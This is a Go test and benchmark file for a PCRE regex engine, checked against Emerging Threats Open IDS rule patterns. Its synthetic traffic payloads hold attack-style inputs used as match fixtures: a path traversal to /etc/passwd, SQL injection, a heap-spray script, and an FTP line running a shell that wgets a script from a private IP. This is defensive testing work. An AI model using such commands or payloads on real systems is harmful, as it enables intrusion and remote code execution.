package pcre

import (
	"math/rand"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
)

const etDir = "/work/shared/rules/et-open"

// etValues extracts every pcre value ("/pattern/mods") from the ET Open
// rule files, commented-out rules included.
func etValues(tb testing.TB) []string {
	files, _ := filepath.Glob(filepath.Join(etDir, "*.rules"))
	if len(files) == 0 {
		tb.Skipf("no rules in %s", etDir)
	}
	var out []string
	for _, fn := range files {
		b, err := os.ReadFile(fn)
		if err != nil {
			tb.Fatal(err)
		}
		s := string(b)
		for {
			i := strings.Index(s, "pcre:")
			if i < 0 {
				break
			}
			s = s[i+5:]
			// As Suricata's option parser does: the value runs to the next
			// unescaped ';' and loses its surrounding quotes (a raw '"'
			// inside the pattern is kept).
			k := 0
			for k < len(s) && s[k] != ';' && s[k] != '\n' {
				if s[k] == '\\' {
					k++
				}
				k++
			}
			if k > len(s) {
				k = len(s)
			}
			v := strings.TrimSpace(s[:k])
			v = strings.TrimSpace(strings.TrimPrefix(v, "!"))
			if len(v) < 2 || v[0] != '"' || v[len(v)-1] != '"' {
				continue
			}
			out = append(out, v[1:len(v)-1])
			s = s[k:]
		}
	}
	return out
}

var offsetRE = regexp.MustCompile(`offset \d+: `)

func TestETOpenCompile(t *testing.T) {
	vals := etValues(t)
	fails := map[string][]string{}
	ok := 0
	for _, v := range vals {
		pat, flags, _, err := ParseValue(v)
		if err == nil {
			_, err = Compile(pat, flags)
		}
		if err != nil {
			key := offsetRE.ReplaceAllString(err.Error(), "")
			fails[key] = append(fails[key], v)
			continue
		}
		ok++
	}
	rate := float64(ok) / float64(len(vals))
	t.Logf("ET Open: %d pcre values, %d compile (%.3f%%)", len(vals), ok, 100*rate)
	var keys []string
	for k := range fails {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		ex := fails[k][0]
		if len(ex) > 120 {
			ex = ex[:120] + "..."
		}
		t.Logf("  %4d × %s  e.g. %s", len(fails[k]), k, ex)
	}
	if rate < 0.999 {
		t.Errorf("compile rate %.3f%% is below 99.9%%", 100*rate)
	}
}

// TestETOpenAgainstGo runs every ET pattern that Go's regexp also accepts
// (the RE2-compatible subset, ASCII input) on synthetic payloads with both
// engines and compares the results.
func TestETOpenAgainstGo(t *testing.T) {
	pairs := etPairs(t)
	payloads := etPayloads()
	s := NewScratch()
	s.SetLimits(1e7, 1e6)
	n, matched := 0, 0
	for _, p := range pairs {
		for _, pl := range payloads {
			want := p.goRe.FindIndex(pl)
			st, en, ok := p.re.Find(pl, 0, s)
			if s.LimitHit() {
				continue
			}
			n++
			if (want != nil) != ok || ok && (want[0] != st || want[1] != en) {
				t.Errorf("%q on payload %.60q: got [%d,%d] %v, Go %v", p.re.String(), pl, st, en, ok, want)
			}
			if ok {
				matched++
			}
		}
	}
	t.Logf("%d patterns × %d payloads: %d comparisons, %d matches", len(pairs), len(payloads), n, matched)
}

type etPair struct {
	re   *Regexp
	goRe *regexp.Regexp
}

// etPairs compiles the ET patterns both engines accept with the same
// meaning: no x (stripped differently), no A/E/m (anchoring differs), no
// \Z/$ before a final newline issues (payloads have none at the end).
func etPairs(tb testing.TB) []etPair {
	var out []etPair
	seen := map[string]bool{}
	for _, v := range etValues(tb) {
		if seen[v] {
			continue
		}
		seen[v] = true
		pat, flags, _, err := ParseValue(v)
		if err != nil || flags&(Extended|Anchored) != 0 {
			continue
		}
		re, err := Compile(pat, flags)
		if err != nil {
			continue
		}
		prefix := ""
		if flags&Caseless != 0 {
			prefix += "i"
		}
		if flags&DotAll != 0 {
			prefix += "s"
		}
		if flags&Multiline != 0 {
			prefix += "m"
		}
		if flags&Ungreedy != 0 {
			prefix += "U"
		}
		gp := pat
		if prefix != "" {
			gp = "(?" + prefix + ")" + pat
		}
		if strings.Contains(pat, `\x`) || strings.Contains(pat, `\v`) || strings.Contains(pat, `\s`) || strings.Contains(pat, `\S`) || strings.Contains(pat, `\h`) {
			// \xhh >= 0x80 is a rune in Go, \v and \h differ, \s lacks VT in Go:
			// keep these only when the payloads avoid the difference (they do:
			// ASCII payloads without VT), except \v and \h which differ in meaning.
			if strings.Contains(pat, `\v`) || strings.Contains(pat, `\h`) || hasHighHex(pat) {
				continue
			}
		}
		if flags&Multiline != 0 && strings.Contains(pat, "^") {
			continue // PCRE's ^ does not match after a final newline
		}
		goRe, err := regexp.Compile(gp)
		if err != nil {
			continue
		}
		out = append(out, etPair{re, goRe})
	}
	return out
}

var highHex = regexp.MustCompile(`\\x[89a-fA-F][0-9a-fA-F]|\\x\{[89a-fA-F][0-9a-fA-F]\}`)

func hasHighHex(p string) bool { return highHex.MatchString(p) }

// etPayloads returns synthetic ASCII traffic: HTTP requests and responses,
// HTML, and random printable data, no vertical tab, no final newline.
func etPayloads() [][]byte {
	r := rand.New(rand.NewSource(7))
	base := []string{
		"GET /index.php?id=1&user=admin&cmd=whoami HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\nCookie: session=abcdef0123456789\r\n\r\n",
		"POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: 10.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 42\r\n\r\naction=upload&file=../../etc/passwd&x=%27%20OR%201=1",
		"HTTP/1.1 200 OK\r\nServer: Apache/2.4.1\r\nContent-Type: text/html\r\n\r\n<html><body><OBJECT classid=\"clsid:1BE49F30-0E1B-11D3-9D8E-00C04F72D980\"></OBJECT><script>var a = unescape('%u9090%u9090'); eval(a);</script></body></html>",
		"USER anonymous\r\nPASS guest@\r\nSITE EXEC /bin/sh -c 'wget http://192.168.1.10/x.sh'\r\n",
	}
	var out [][]byte
	for _, b := range base {
		out = append(out, []byte(strings.TrimRight(b, "\n")))
	}
	const printable = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 /?=&%.:;<>\"'()[]{}-_\r\n\t"
	for i := 0; i < 4; i++ {
		b := make([]byte, 1500)
		for j := range b {
			b[j] = printable[r.Intn(len(printable))]
		}
		b[len(b)-1] = 'x'
		out = append(out, b)
	}
	return out
}

// BenchmarkETOpen runs every ET pattern both engines accept over the
// synthetic payloads: one op is all patterns over all payloads.
func BenchmarkETOpen(b *testing.B) {
	pairs := etPairs(b)
	payloads := etPayloads()
	b.Run("pcre", func(b *testing.B) {
		s := NewScratch()
		for _, p := range pairs { // warm the scratch
			for _, pl := range payloads {
				p.re.Find(pl, 0, s)
			}
		}
		b.ReportAllocs()
		for b.Loop() {
			for _, p := range pairs {
				for _, pl := range payloads {
					p.re.Find(pl, 0, s)
				}
			}
		}
		b.ReportMetric(float64(len(pairs)), "patterns")
	})
	b.Run("goregexp", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			for _, p := range pairs {
				for _, pl := range payloads {
					p.goRe.FindIndex(pl)
				}
			}
		}
		b.ReportMetric(float64(len(pairs)), "patterns")
	})
}

func BenchmarkFind(b *testing.B) {
	data := []byte(strings.Repeat("GET /index.html HTTP/1.1\r\nHost: a.example\r\n", 30) + "User-Agent: evil/1.0 (foo bar)\r\n")
	for _, c := range []struct {
		name, pat string
		flags     Flags
	}{
		{"literal", `User-Agent: evil`, 0},
		{"caseless", `user-agent\x3a\s*evil`, Caseless},
		{"class", `[a-z]+/\d\.\d \(foo`, 0},
		{"lookbehind", `(?<=Agent: )evil`, 0},
		{"backref", `(\w+)/\1`, 0},
	} {
		re := MustCompile(c.pat, c.flags)
		gp := c.pat
		if c.flags&Caseless != 0 {
			gp = "(?i)" + c.pat
		}
		goRe, goErr := regexp.Compile(gp)
		s := NewScratch()
		b.Run(c.name+"/pcre", func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(data)))
			for b.Loop() {
				re.Find(data, 0, s)
			}
		})
		if goErr == nil {
			b.Run(c.name+"/goregexp", func(b *testing.B) {
				b.ReportAllocs()
				b.SetBytes(int64(len(data)))
				for b.Loop() {
					goRe.FindIndex(data)
				}
			})
		}
	}
}

// TestETOpenAllocs checks that Find allocates nothing once the Scratch is
// warm, on a sample of the ET Open patterns (every 7th).
func TestETOpenAllocs(t *testing.T) {
	vals := etValues(t)
	payload := etPayloads()[2]
	s := NewScratch()
	checked := 0
	for i := 0; i < len(vals); i += 7 {
		pat, flags, _, err := ParseValue(vals[i])
		if err != nil {
			continue
		}
		re, err := Compile(pat, flags)
		if err != nil {
			continue
		}
		re.Find(payload, 0, s)
		if a := testing.AllocsPerRun(2, func() { re.Find(payload, 0, s) }); a != 0 {
			t.Errorf("%q: %v allocations per Find", pat, a)
		}
		checked++
	}
	t.Logf("%d patterns checked", checked)
}
